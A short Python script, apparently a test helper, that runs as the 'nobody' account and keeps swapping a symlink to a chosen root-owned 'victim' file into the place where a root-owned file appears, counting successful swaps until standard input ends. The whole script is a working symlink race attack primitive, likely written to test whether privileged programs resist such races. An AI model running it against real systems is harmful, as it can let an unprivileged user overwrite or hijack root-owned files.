"""As the account nobody, waits for a file of root at a name, and puts a link to another file of root in its place at once.

argv: FOLDER VICTIM NAME. Goes on until standard input ends; then prints how often it did so.
"""

import os
import select
import sys

NOBODY = 65534
os.setgroups([])
os.setgid(NOBODY)
os.setuid(NOBODY)

folder, victim, name = sys.argv[1:]
path, link = os.path.join(folder, name), os.path.join(folder, "link")


def is_there():
    try:
        return os.lstat(path).st_uid == 0
    except OSError:
        return False


def pounce():
    """Once a file has appeared there; false where none came for a while."""
    for _ in range(2000):
        if is_there():
            os.rename(link, path)
            return True
    return False


print("begun", flush=True)
rounds = 0
while not select.select([sys.stdin], [], [], 0)[0]:
    if not os.path.lexists(link):
        os.symlink(victim, link)
    rounds += pounce()
print(rounds)
